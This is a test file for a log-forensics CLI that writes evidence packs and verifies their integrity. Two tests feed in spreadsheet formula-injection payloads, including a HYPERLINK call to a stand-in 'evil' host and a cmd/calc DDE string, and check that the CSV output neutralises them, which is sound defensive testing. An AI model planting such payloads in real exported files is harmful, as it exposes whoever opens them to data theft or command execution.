import assert from 'node:assert/strict';
import { cpSync, createReadStream, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, test } from 'node:test';
import { gunzipSync } from 'node:zlib';
import { RecordBatchReader, tableFromIPC } from 'apache-arrow';
import { Store } from '../../src/db/store.js';
import { combinedLine, makeCase, runCli, tempDir } from '../helpers.js';
import { copySample, largeCase, readCsv, report } from './pack-fixtures.js';

/** Line n (1-based) of a log file, as bytes on disk (gzip undone), without its line end. */
function lineOf(file: string, n: number): string {
  let bytes = readFileSync(file);
  if (bytes[0] === 0x1f && bytes[1] === 0x8b) bytes = gunzipSync(bytes);
  return bytes.toString('utf8').split('\n')[n - 1]!.replace(/\r$/, '');
}

for (const sample of ['ticketviewer', 'resident-portal']) {
  describe(`evidence pack of ${sample}`, () => {
    test('when the pack is written then evidence.csv has one row per counted access and each raw line is line N of its file, byte for byte', async () => {
      const c = copySample(sample);
      const out = tempDir();
      const { summary } = report(c, out);
      const expected = JSON.parse(readFileSync(path.join(path.dirname(c), 'expected.json'), 'utf8')) as { unauthorized_accesses: number; affected_subjects: number };
      assert.equal(summary, expected.unauthorized_accesses);
      const rows = await readCsv(path.join(out, 'evidence.csv'));
      assert.equal(rows.length, expected.unauthorized_accesses);
      for (const r of rows) assert.equal(r.raw_line, lineOf(path.join(path.dirname(c), r.file!), Number(r.line)), `${r.file}:${r.line}`);
      assert.equal((await readCsv(path.join(out, 'subjects.csv'))).length, expected.affected_subjects);
      const arrow = tableFromIPC(readFileSync(path.join(out, 'evidence.arrow')));
      assert.equal(arrow.numRows, expected.unauthorized_accesses);
      assert.deepEqual(arrow.schema.fields.map((f) => f.name).slice(0, 4), ['event_time', 'client_ip', 'account', 'document']);
    });
  });
}

describe('pack integrity', () => {
  test('when the same inputs are reported twice with the same generated-at then every file is byte-identical, and the manifests differ only in the command line', () => {
    const c = copySample('ticketviewer');
    const a = tempDir();
    const b = tempDir();
    report(c, a);
    report(c, b, ['--db', tempDir()]);
    const files = readdirSync(a).sort();
    assert.deepEqual(files, ['evidence.arrow', 'evidence.csv', 'evidence.parquet', 'manifest.json', 'report.html', 'report.md', 'subjects.csv']);
    for (const f of files.filter((x) => x !== 'manifest.json')) assert.ok(readFileSync(path.join(a, f)).equals(readFileSync(path.join(b, f))), `${f} differs`);
    const manifest = (dir: string) => {
      const { command, self_sha256: _, ...rest } = JSON.parse(readFileSync(path.join(dir, 'manifest.json'), 'utf8')) as Record<string, unknown>;
      return { command, rest };
    };
    assert.deepEqual(manifest(a).rest, manifest(b).rest);
    assert.notDeepEqual(manifest(a).command, manifest(b).command);
  });

  test('when SOURCE_DATE_EPOCH is set then it is the generated-at', () => {
    const out = tempDir();
    const r = runCli(['report', copySample('ticketviewer'), '--out', out], { env: { SOURCE_DATE_EPOCH: '1429531200' } });
    assert.equal(r.code, 0, r.stderr);
    assert.equal(JSON.parse(readFileSync(path.join(out, 'manifest.json'), 'utf8')).generated_at, '2015-04-20T12:00:00Z');
  });

  test('when one byte of any file of the pack changes then verify exits 1 naming that file; intact it exits 0', () => {
    const c = copySample('ticketviewer');
    const pack = tempDir();
    report(c, pack);
    assert.equal(runCli(['verify', pack]).code, 0);
    for (const f of readdirSync(pack)) {
      const copy = tempDir();
      cpSync(pack, copy, { recursive: true });
      const bytes = readFileSync(path.join(copy, f));
      const at = Math.floor(bytes.length / 2);
      bytes[at] = bytes[at]! ^ 0x01;
      writeFileSync(path.join(copy, f), bytes);
      const r = runCli(['verify', copy]);
      assert.equal(r.code, 1, `a changed byte in ${f} is caught`);
      assert.match(r.stdout, new RegExp(`^changed +${f.replace('.', '\\.')}$`, 'm'));
    }
  });

  test('when verify is given a folder that does not exist then it is a usage error, exit 2', () => {
    const r = runCli(['verify', path.join(tempDir(), 'nope')]);
    assert.equal(r.code, 2);
    assert.match(r.stderr, /no evidence pack folder at .*nope/);
  });

  test('when a file is missing or added then verify names it', () => {
    const pack = tempDir();
    report(copySample('ticketviewer'), pack);
    writeFileSync(path.join(pack, 'notes.txt'), 'x');
    const r1 = runCli(['verify', pack]);
    assert.equal(r1.code, 1);
    assert.match(r1.stdout, /^extra +notes\.txt$/m);
    const pack2 = tempDir();
    report(copySample('ticketviewer'), pack2);
    rmSync(path.join(pack2, 'subjects.csv'));
    const r2 = runCli(['verify', pack2]);
    assert.equal(r2.code, 1);
    assert.match(r2.stdout, /^missing +subjects\.csv$/m);
  });
});

describe('attacker-controlled strings in CSV', () => {
  test('when log fields start with = + - @ tab or CR then the CSV cells are neutralised and Parquet keeps them as logged', async () => {
    const hostile = ['=HYPERLINK("http://evil/?"&A1)', '+cmd|" /C calc"!A0', '-2+3', '@SUM(1+1)', '\tx'];
    const lines = hostile.map((ua, i) => combinedLine({ user: i === 0 ? '=evil' : 'M2', time: `16/Mar/2015:10:0${i}:00 +0000`, path: `/tickets/D1/image`, ua: ua.replaceAll('"', '\\"') }));
    const c = makeCase(
      'case: hostile\nsources:\n  - {name: web, path: access.log, format: combined}\ndocuments:\n  routes: [/tickets/{doc}/image]\n  owners: owners.csv\n',
      { 'access.log': `${lines.join('\n')}\n`, 'owners.csv': 'document_id,owner_account\nD1,M1\n' },
    );
    const out = tempDir();
    report(c, out);
    const rows = await readCsv(path.join(out, 'evidence.csv'));
    assert.equal(rows.length, 5);
    assert.deepEqual(rows.map((r) => r.user_agent), hostile.map((h) => `'${h}`));
    assert.equal(rows[0]!.account, "'=evil");
    const store = await Store.memory();
    try {
      const raw = await store.all(`SELECT user_agent, account FROM read_parquet($f) ORDER BY event_time`, { f: path.join(out, 'evidence.parquet') });
      assert.deepEqual(raw.map((r) => r.user_agent), hostile);
    } finally {
      store.close();
    }
  });
});

async function arrowRows(file: string): Promise<{ rows: number; batches: number }> {
  let rows = 0;
  let batches = 0;
  for await (const batch of await RecordBatchReader.from(createReadStream(file))) {
    rows += batch.numRows;
    batches += 1;
  }
  return { rows, batches };
}

describe('formula cells after spaces, in fullwidth forms, and in subjects.csv', () => {
  test('when a log field or a subject id starts with spaces before = + - @ or with ＝ ＋ － ＠ then its CSV cell is neutralised, and verify still finds the figures', async () => {
    const hostile = ['  =1+1', '\u00a0+cmd', '\uff1dHYPERLINK("http://evil")', '\uff0b1', '\uff0d1', '\uff20SUM(1)', "'already quoted"];
    const lines = hostile.map((ua, i) => combinedLine({ ip: `203.0.113.${i + 1}`, user: i === 0 ? '\uff20evil' : 'M2', time: `16/Mar/2015:10:0${i}:00 +0000`, path: '/tickets/D1/image', ua: ua.replaceAll('"', '\\"') }));
    const subjects = ['\uff1dcmd|" /C calc"!A0', '\uff0bsubject', '\uff20subject', "'quoted subject", 'plain'];
    const c = makeCase(
      'case: hostile\nsources:\n  - {name: web, path: access.log, format: combined}\ndocuments:\n  routes: [/tickets/{doc}/image]\n  owners: owners.csv\n  subjects: subjects.csv\n',
      {
        'access.log': `${lines.join('\n')}\n`,
        'owners.csv': 'document_id,owner_account\nD1,M1\n',
        'subjects.csv': `document_id,subject_id\n${subjects.map((s) => `D1,"${s.replaceAll('"', '""')}"`).join('\n')}\n`,
      },
    );
    const out = path.join(tempDir(), 'pack');
    report(c, out);
    const rows = await readCsv(path.join(out, 'evidence.csv'));
    assert.deepEqual(rows.map((r) => r.user_agent), hostile.map((h) => `'${h}`));
    assert.equal(rows[0]!.account, "'\uff20evil");
    const people = await readCsv(path.join(out, 'subjects.csv'));
    assert.deepEqual(people.map((r) => r.subject_id).sort(), ["''quoted subject", "'\uff0bsubject", "'\uff1dcmd|\" /C calc\"!A0", "'\uff20subject", 'plain'].sort());
    assert.match(rows[0]!.subjects!, /^'/, 'the subjects cell of evidence.csv starts with a guarded id');
    assert.equal(runCli(['verify', out]).code, 0);
  });
});

describe('large cases', () => {
  test('when a case has 100,000 counted accesses then the pack is written with a manifest, verify accepts it, and evidence.arrow holds every row', async () => {
    const out = path.join(tempDir(), 'pack');
    const { summary } = report(largeCase(100_000), out);
    assert.equal(summary, 100_000);
    assert.deepEqual(readdirSync(out).sort(), ['evidence.arrow', 'evidence.csv', 'evidence.parquet', 'manifest.json', 'report.html', 'report.md', 'subjects.csv']);
    const v = runCli(['verify', out]);
    assert.equal(v.code, 0, v.stdout + v.stderr);
    const arrow = await arrowRows(path.join(out, 'evidence.arrow'));
    assert.equal(arrow.rows, 100_000);
    assert.ok(arrow.batches > 1, 'written a chunk at a time');
  });

  test('when --max-rows caps the tables then report.html and report.md show the top rows and say how many there are, while evidence.csv keeps every access', async () => {
    const casePath = copySample('ticketviewer');
    const out = path.join(tempDir(), 'pack');
    report(casePath, out, ['--max-rows', '3']);
    const html = readFileSync(path.join(out, 'report.html'), 'utf8');
    const byIp = html.slice(html.indexOf('id="by-ip"'), html.indexOf('id="by-account"'));
    assert.equal((byIp.match(/<tr>/g) ?? []).length, 1 + 3, 'header row + 3 rows');
    assert.match(byIp, /Showing the 3 client IPs with the most accesses of 36; evidence\.csv and evidence\.parquet hold every access\./);
    assert.match(readFileSync(path.join(out, 'report.md'), 'utf8'), /_Showing the 3 documents with the most accesses of 119;/);
    assert.equal((await readCsv(path.join(out, 'evidence.csv'))).length, 235);
    const bad = runCli(['report', casePath, '--out', out, '--max-rows', 'x']);
    assert.equal(bad.code, 2);
    assert.match(bad.stderr, /--max-rows <n>' argument 'x' is invalid\. 'x' is not a whole number of at least 1/);
  });
});
